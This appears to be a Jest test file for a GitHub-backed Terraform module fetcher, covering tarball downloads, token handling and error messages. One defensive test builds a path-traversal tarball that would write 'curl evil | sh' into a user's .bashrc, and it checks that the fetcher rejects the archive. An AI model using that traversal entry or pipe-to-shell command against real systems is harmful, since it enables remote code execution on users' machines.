import nock from "nock";
import { createModuleFetcher } from "../../src/modules/create-module-fetcher.js";
import { fixtureText, networkArchive, networkCommit } from "./helpers/fixtures.js";
import { mockCodeload, useCleanNock, useTempCacheDir } from "./helpers/mocks.js";
import { entry, gitCommitHeader, tarGz } from "./helpers/tar-builder.js";

const SOURCE = "github.com/acme/terraform-aws-network//modules/flow-logs?ref=v1.2.0";

describe("GitHub modules over HTTPS (the CLI)", () => {
  useCleanNock();
  const cacheDir = useTempCacheDir();
  const fetcher = (token?: string) => createModuleFetcher({ cacheDir: cacheDir(), github: { token } });

  it("downloads the tag's tarball from codeload and resolves it to the commit", async () => {
    const codeload = mockCodeload("acme", "terraform-aws-network", "v1.2.0", networkArchive);
    const module = await fetcher().fetch({ source: SOURCE });
    expect(module).toMatchObject({ dir: "modules/flow-logs", resolved: networkCommit });
    expect(module.tree.label).toBe(`github.com/acme/terraform-aws-network@${networkCommit}`);
    expect(await module.tree.read("modules/flow-logs/main.tf")).toBe(fixtureText("modules/flow-logs/main.tf"));
    // file("${path.module}/../../templates/...") reaches outside the module directory.
    expect(await module.tree.read("templates/flow-log-trust.json")).toContain("vpc-flow-logs.amazonaws.com");
    await expect(module.tree.read("README.md")).rejects.toThrow("README.md: no such file");
    expect(codeload.isDone()).toBe(true);
  });

  it.each([
    ["git::https://github.com/acme/terraform-aws-network.git//modules/flow-logs?ref=v1.2.0"],
    ["git::ssh://git@github.com/acme/terraform-aws-network.git//modules/flow-logs?ref=v1.2.0&depth=1"],
    ["git@github.com:acme/terraform-aws-network.git//modules/flow-logs?ref=v1.2.0"],
  ])("fetches %s the same way", async (source) => {
    const codeload = mockCodeload("acme", "terraform-aws-network", "v1.2.0", networkArchive);
    expect(await fetcher().fetch({ source })).toMatchObject({ dir: "modules/flow-logs", resolved: networkCommit });
    expect(codeload.isDone()).toBe(true);
  });

  it("fetches the default branch through the API's tarball redirect", async () => {
    const api = nock("https://api.github.com")
      .get("/repos/acme/terraform-aws-network/tarball")
      .reply(302, "", { location: "https://codeload.github.com/acme/terraform-aws-network/legacy.tar.gz/refs/heads/main" });
    const codeload = nock("https://codeload.github.com").get("/acme/terraform-aws-network/legacy.tar.gz/refs/heads/main").reply(200, networkArchive);
    const module = await fetcher().fetch({ source: "github.com/acme/terraform-aws-network" });
    expect(module).toMatchObject({ dir: ".", resolved: networkCommit });
    expect(api.isDone() && codeload.isDone()).toBe(true);
  });

  it("sends a token to the API only, and follows the signed redirect", async () => {
    const api = nock("https://api.github.com", { reqheaders: { authorization: "Bearer ghp_cli_token" } })
      .get("/repos/acme/private-modules/tarball/v1.2.0")
      .reply(302, "", { location: "https://codeload.github.com/acme/private-modules/legacy.tar.gz/refs/tags/v1.2.0?token=SIGNED" });
    const codeload = nock("https://codeload.github.com", { badheaders: ["authorization"] })
      .get("/acme/private-modules/legacy.tar.gz/refs/tags/v1.2.0")
      .query({ token: "SIGNED" })
      .reply(200, networkArchive);
    const module = await fetcher("ghp_cli_token").fetch({ source: "github.com/acme/private-modules//modules/endpoints?ref=v1.2.0" });
    expect(module.dir).toBe("modules/endpoints");
    expect(api.isDone() && codeload.isDone()).toBe(true);
  });

  it("uses GITHUB_TOKEN when no token is passed", async () => {
    process.env.GITHUB_TOKEN = "ghp_from_env";
    const api = nock("https://api.github.com", { reqheaders: { authorization: "Bearer ghp_from_env" } })
      .get("/repos/acme/private-modules/tarball/v1.2.0")
      .reply(200, networkArchive);
    await createModuleFetcher({ cacheDir: cacheDir() }).fetch({ source: "github.com/acme/private-modules?ref=v1.2.0" });
    expect(api.isDone()).toBe(true);
  });

  it.each<[string | undefined, string]>([
    [undefined, 'module source github.com/acme/private//vpc?ref=v1: repository or ref "v1" not found, or no access (set GITHUB_TOKEN to a token that can read acme/private if it is private)'],
    ["ghp_cli_token", 'module source github.com/acme/private//vpc?ref=v1: repository or ref "v1" not found, or no access (the GitHub token cannot read acme/private)'],
  ])("explains a 404 with token %s", async (token, message) => {
    nock("https://codeload.github.com").get("/acme/private/tar.gz/v1").reply(404, "Not Found");
    nock("https://api.github.com").get("/repos/acme/private/tarball/v1").reply(404, { message: "Not Found" });
    const attempt = fetcher(token).fetch({ source: "github.com/acme/private//vpc?ref=v1" });
    await expect(attempt).rejects.toMatchObject({ code: "no-access" });
    await expect(attempt).rejects.toThrow(message);
  });

  it("says when GitHub cannot be reached", async () => {
    nock("https://codeload.github.com").get("/acme/modules/tar.gz/v1").replyWithError(Object.assign(new Error("getaddrinfo ENOTFOUND codeload.github.com"), { code: "ENOTFOUND" }));
    const attempt = fetcher().fetch({ source: "github.com/acme/modules?ref=v1" });
    await expect(attempt).rejects.toMatchObject({ code: "unreachable" });
    await expect(attempt).rejects.toThrow("module source github.com/acme/modules?ref=v1: codeload.github.com unreachable: getaddrinfo ENOTFOUND codeload.github.com");
  });

  it("explains an exhausted rate limit", async () => {
    nock("https://api.github.com").get("/repos/acme/modules/tarball").reply(403, { message: "API rate limit exceeded" }, { "x-ratelimit-remaining": "0" });
    await expect(fetcher().fetch({ source: "github.com/acme/modules" })).rejects.toThrow(
      "module source github.com/acme/modules: GitHub rate limit reached for anonymous requests (set GITHUB_TOKEN)",
    );
  });

  it("says when the subdirectory is not in the repository", async () => {
    mockCodeload("acme", "terraform-aws-network", "v1.2.0", networkArchive);
    await expect(fetcher().fetch({ source: "github.com/acme/terraform-aws-network//modules/nat?ref=v1.2.0" })).rejects.toThrow(
      `module source github.com/acme/terraform-aws-network//modules/nat?ref=v1.2.0: directory "modules/nat" not found in github.com/acme/terraform-aws-network@${networkCommit}`,
    );
  });

  it("rejects a tarball with path traversal", async () => {
    const evil = tarGz(gitCommitHeader("c".repeat(40)), entry({ name: "acme-evil-ccccccc/main.tf", data: "" }), entry({ name: "acme-evil-ccccccc/../../../home/user/.bashrc.sh", data: "curl evil | sh\n" }));
    mockCodeload("acme", "evil", "v1", evil);
    const attempt = fetcher().fetch({ source: "github.com/acme/evil?ref=v1" });
    await expect(attempt).rejects.toMatchObject({ code: "bad-archive" });
    await expect(attempt).rejects.toThrow(
      'module source github.com/acme/evil?ref=v1: archive of acme/evil@v1 is unusable: archive entry "acme-evil-ccccccc/../../../home/user/.bashrc.sh" points outside the archive',
    );
  });

  it("rejects a body that is not gzip", async () => {
    mockCodeload("acme", "modules", "v1", Buffer.from("<!DOCTYPE html><html>Sign in to GitHub</html>"));
    await expect(fetcher().fetch({ source: "github.com/acme/modules?ref=v1" })).rejects.toThrow(
      "module source github.com/acme/modules?ref=v1: archive of acme/modules@v1 is unusable: incorrect header check",
    );
  });
});
